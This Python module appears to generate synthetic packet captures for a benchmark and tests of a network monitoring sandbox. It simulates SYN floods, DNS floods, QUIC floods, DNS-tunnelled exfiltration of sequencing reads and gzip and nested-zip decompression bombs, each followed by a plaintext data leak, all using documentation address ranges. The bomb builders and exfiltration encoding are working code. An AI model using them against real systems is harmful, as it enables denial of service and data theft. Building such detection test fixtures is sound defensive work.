"""Hostile load an instrument can send, then a leak after it: floods, bombs, DNS exfiltration, QUIC Initials.

The instrument is the attacker: it can open a million connections, send each DNS query from a new
source port, or post a decompression bomb before it sends run data out.  Each builder writes its
part into a pcap on a shared clock (``Clock``); ``write_case`` builds one whole capture (hostile part
first, then a plain HTTP upload of run reads) for ``benchmarks/hostile.py`` and ``tests/hostile``.
Addresses are documentation and benchmark ranges (RFC 5737, RFC 2544), names RFC 2606/6761 ones.
"""

from __future__ import annotations

import gzip
import io
import ipaddress
import random
import zipfile
import zlib
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

from sandbox.captures.writer import PacketSink, PcapWriter, TcpConversation, ethernet, ipv4, tcp_segment, udp
from sandbox.model import SYN

from . import wire
from .runfolder import sample_fastqs

INSTRUMENT = "10.20.0.5"
RESOLVER = "10.20.0.1"
LEAK_HOST, LEAK_ADDR = "support.vendor.example", "203.0.113.50"
BOMB_HOST, BOMB_ADDR = "telemetry.vendor.example", "203.0.113.60"
FLOOD_NET = ipaddress.ip_network("198.18.0.0/15")  # RFC 2544 benchmarking range: a flood goes nowhere
FLOOD_ZONE = "bulk-lookup.example"
EXFIL_ZONE = "telemetry-cache.test"
T0 = 1763892000.0
SYN_GAP = 0.00001  # 100k SYNs a second: as fast as one host's stack sends them
QUERY_GAP = 0.0005  # 2000 queries a second: a busy but real resolver client
QUIC_ADDR = "203.0.113.70"   # where the QUIC Initials go
QUIC_GAP = 0.00002  # 50k datagrams a second
EPHEMERAL = (1024, 65535)  # source ports a DNS client randomises over (RFC 5452 section 10)
BASES_PER_QUERY = 76  # 152 hex characters in three labels: a name stays under 255 octets
LEAK_BYTES = 32 << 10  # FASTQ text in the leak after the hostile part: well above every detection floor
ZERO_CHUNK = 1 << 20  # zeros compressed per call when building a bomb


@dataclass
class Clock:
    """Capture time shared by the parts of one capture."""

    t: float = T0


def _ports() -> Iterator[int]:
    """A new source port per query, cycling the ephemeral range in a scrambled but fixed order."""
    lo, hi = EPHEMERAL
    span = hi - lo + 1
    n = 0
    while True:
        yield lo + (n * 40503) % span  # 40503 is odd and prime to the span: every port once per cycle
        n += 1


def syn_flood(w: PacketSink, clock: Clock, flows: int) -> None:
    """``flows`` SYN-only connection attempts, each to its own address and port: never answered."""
    base = int(FLOOD_NET.network_address)
    size = FLOOD_NET.num_addresses
    for n in range(flows):
        dst = str(ipaddress.IPv4Address(base + n % size))
        sport, dport = 1024 + n % 60000, 1 + n // size % 65535
        seg = tcp_segment(INSTRUMENT, dst, sport, dport, n * 7919, 0, SYN)
        w.write(ethernet(ipv4(INSTRUMENT, dst, 6, seg)), clock.t)
        clock.t += SYN_GAP


def dns_lookups(w: PacketSink, clock: Clock, names: Sequence[str] | Iterator[str], *,
                resolver: tuple[str, int] = (RESOLVER, 53), answer: str | None = "198.51.100.200") -> int:
    """One query per name, each from a new source port, each answered; returns the count."""
    ports = _ports()
    n = 0
    for n, name in enumerate(names, 1):
        sport, ident = next(ports), n & 0xFFFF
        udp(w, (INSTRUMENT, sport), resolver, wire.dns_query(ident, name), t=clock.t)
        udp(w, resolver, (INSTRUMENT, sport), wire.dns_answer(ident, name, answer), t=clock.t + 0.0002)
        clock.t += QUERY_GAP
    return n


def flood_names(queries: int, zone: str = FLOOD_ZONE) -> Iterator[str]:
    """Distinct host names under one zone, as a crawler or a misconfigured client asks."""
    return (f"host{n:07d}.{zone}" for n in range(queries))


def exfil_names(reads: Sequence[bytes], queries: int, zone: str = EXFIL_ZONE) -> Iterator[str]:
    """Reads hex-encoded into query labels, ``BASES_PER_QUERY`` bases a query, cycling the reads."""
    n = 0
    while True:
        for r, read in enumerate(reads):
            for part in range(0, len(read), BASES_PER_QUERY):
                if n >= queries:
                    return
                hexed = read[part:part + BASES_PER_QUERY].hex()
                labels = [hexed[i:i + 60] for i in range(0, len(hexed), 60)]
                yield ".".join([*labels, f"r{r}p{part // BASES_PER_QUERY}", zone])
                n += 1


def gzip_bomb(expanded: int) -> bytes:
    """A gzip member of ``expanded`` zero bytes (1 GiB of zeros is ~1 MB of gzip)."""
    buf = io.BytesIO()
    with gzip.GzipFile(fileobj=buf, mode="wb", compresslevel=9, mtime=0) as gz:
        zeros = bytes(ZERO_CHUNK)
        for _ in range(expanded // ZERO_CHUNK):
            gz.write(zeros)
        gz.write(bytes(expanded % ZERO_CHUNK))
    return buf.getvalue()


def zip_bomb(levels: int = 6, fanout: int = 16, leaf: int = 16 << 20) -> bytes:
    """A nested zip: ``fanout`` copies of the level below per level, ``leaf`` zeros at the bottom.

    The copies deflate to back-references of each other, so five levels of 16 copies stay ~26 KB
    while holding fanout**(levels - 1) * leaf bytes (16 TiB with the defaults), as 42.zip does.
    """
    comp = zlib.compressobj(9)
    deflated = comp.compress(bytes(leaf)) + comp.flush()
    inner = _zip_of([("0.bin", deflated, leaf, zlib.crc32(bytes(leaf)))])
    for level in range(levels - 1):
        data = _zip_members([(f"{level}-{i}.zip", inner) for i in range(fanout)])
        inner = data
    return inner


def _zip_members(members: Sequence[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for name, data in members:
            zf.writestr(zipfile.ZipInfo(name, date_time=(2025, 11, 23, 10, 0, 0)), data,
                        compress_type=zipfile.ZIP_DEFLATED)
    return buf.getvalue()


def _zip_of(members: Sequence[tuple[str, bytes, int, int]]) -> bytes:
    """A zip of already-deflated members (name, raw deflate, size, crc): no second pass over zeros."""
    out = io.BytesIO()
    central = []
    for name, deflated, size, crc in members:
        offset = out.tell()
        header = _local_header(name, deflated, size, crc)
        out.write(header + deflated)
        central.append(_central_header(name, deflated, size, crc, offset))
    start = out.tell()
    cd = b"".join(central)
    out.write(cd)
    out.write(b"PK\x05\x06" + (0).to_bytes(4, "little") + len(members).to_bytes(2, "little") * 2
              + len(cd).to_bytes(4, "little") + start.to_bytes(4, "little") + b"\0\0")
    return out.getvalue()


def _local_header(name: str, deflated: bytes, size: int, crc: int) -> bytes:
    raw = name.encode()
    return (b"PK\x03\x04" + (20).to_bytes(2, "little") + b"\0\0" + (8).to_bytes(2, "little") + b"\0\0\0\0"
            + crc.to_bytes(4, "little") + len(deflated).to_bytes(4, "little") + size.to_bytes(4, "little")
            + len(raw).to_bytes(2, "little") + b"\0\0" + raw)


def _central_header(name: str, deflated: bytes, size: int, crc: int, offset: int) -> bytes:
    raw = name.encode()
    return (b"PK\x01\x02" + (20).to_bytes(2, "little") * 2 + b"\0\0" + (8).to_bytes(2, "little") + b"\0\0\0\0"
            + crc.to_bytes(4, "little") + len(deflated).to_bytes(4, "little") + size.to_bytes(4, "little")
            + len(raw).to_bytes(2, "little") + b"\0" * 12 + offset.to_bytes(4, "little") + raw)


def http_post(w: PacketSink, clock: Clock, server: tuple[str, int], host: str, path: str, body: bytes,
              content_type: str, sport: int) -> str:
    """One HTTP/1.1 POST and its answer on a new connection; returns the flow id."""
    conv = TcpConversation(w, (INSTRUMENT, sport), server, t0=clock.t, dt=0.00005,
                           isn_client=sport * 7919, isn_server=sport * 104729)
    conv.send(wire.http_request("POST", path, host, body, content_type=content_type))
    conv.send(wire.http_response(b'{"ok":true}'), from_client=False)
    conv.close()
    clock.t = conv.t + 0.5
    return f"tcp {INSTRUMENT}:{sport} > {server[0]}:{server[1]}"


def sample_reads(run: Path) -> tuple[str, list[bytes], bytes]:
    """(first sample id, its reads, its FASTQ text) of a simulated run."""
    sample, path = next(iter(sample_fastqs(run).items()))
    text = gzip.decompress(path.read_bytes())
    return sample, text.split(b"\n")[1::4], text


def leak(w: PacketSink, clock: Clock, run: Path) -> str:
    """The leak after the hostile part: FASTQ text of the first sample posted in the clear."""
    _, _, text = sample_reads(run)
    return http_post(w, clock, (LEAK_ADDR, 80), LEAK_HOST, "/api/v2/diagnostics/reads", text[:LEAK_BYTES],
                     "text/plain", 61000)


def _bomb_post(body: bytes, content_type: str) -> Callable[[PacketSink, Clock, Path], None]:
    def write(w: PacketSink, clock: Clock, run: Path) -> None:
        http_post(w, clock, (BOMB_ADDR, 80), BOMB_HOST, "/v1/upload", body, content_type, 60000)
    return write


def _exfil(queries: int) -> Callable[[PacketSink, Clock, Path], None]:
    def write(w: PacketSink, clock: Clock, run: Path) -> None:
        _, reads, _ = sample_reads(run)
        dns_lookups(w, clock, exfil_names(reads, queries), answer=None)
    return write


def quic_initials(w: PacketSink, clock: Clock, flows: int) -> None:
    """``flows`` QUIC client Initials of full size, each from a new port and with a new connection ID,
    whose protection does not open: each costs the rig a key derivation and a failed decryption."""
    ports = _ports()
    for n in range(flows):
        dcid = n.to_bytes(8, "big")
        body = bytes((n + i) & 0xFF for i in range(1162))
        packet = (b"\xc3\x00\x00\x00\x01\x08" + dcid + b"\x00\x00" + bytes([0x44, 0x8E])
                  + b"\x00\x00\x00\x01" + body)
        udp(w, (INSTRUMENT, next(ports)), (QUIC_ADDR, 443), packet, clock.t)
        clock.t += QUIC_GAP


def resent_upload(w: PacketSink, clock: Clock, size: int) -> None:
    """An upload of ``size`` random bytes, each segment sent first with other random bytes (junk a
    receiver would drop): the rig reads the stream twice, the second time as resent bytes."""
    rng = random.Random(7)
    head = b"POST /v1/upload HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n" % (BOMB_HOST.encode(), size)
    data = head + rng.randbytes(size)
    conv = TcpConversation(w, (INSTRUMENT, 60002), (BOMB_ADDR, 80), t0=clock.t, dt=0.00005)
    conv.handshake()
    for at in range(0, len(data), conv.mss):
        piece = data[at:at + conv.mss]
        w.write(conv.segment_at(rng.randbytes(len(piece)), conv.seq[True]), conv._tick())
        conv.send(piece)
    conv.close()
    clock.t = conv.t + 0.5


# The hostile part of each case; the capture is this part, then ``leak``.
CASES: dict[str, Callable[[], Callable[[PacketSink, Clock, Path], None]]] = {
    "anchor": lambda: lambda w, clock, run: None,
    "syn-flood-1M": lambda: lambda w, clock, run: syn_flood(w, clock, 1_000_000),
    "dns-200k-one-zone": lambda: lambda w, clock, run: dns_lookups(w, clock, flood_names(200_000)) and None,
    "dns-exfil-5k": lambda: _exfil(5_000),
    "dns-exfil-10k": lambda: _exfil(10_000),
    "dns-exfil-20k": lambda: _exfil(20_000),
    "gzip-bomb-no-encoding": lambda: _bomb_post(gzip_bomb(1 << 30), "application/octet-stream"),
    "zip-bomb-nested": lambda: _bomb_post(zip_bomb(), "application/zip"),
    "quic-initials-100k": lambda: lambda w, clock, run: quic_initials(w, clock, 100_000),
    "resent-upload-50M": lambda: lambda w, clock, run: resent_upload(w, clock, 50 << 20),
}


def write_case(name: str, path: Path, run: Path) -> Path:
    """Write case ``name`` of ``CASES`` (hostile part, then the leak) as a pcap at ``path``."""
    hostile = CASES[name]()
    clock = Clock()
    with PcapWriter(path) as w:
        hostile(w, clock, run)
        clock.t += 1.0
        leak(w, clock, run)
    return path
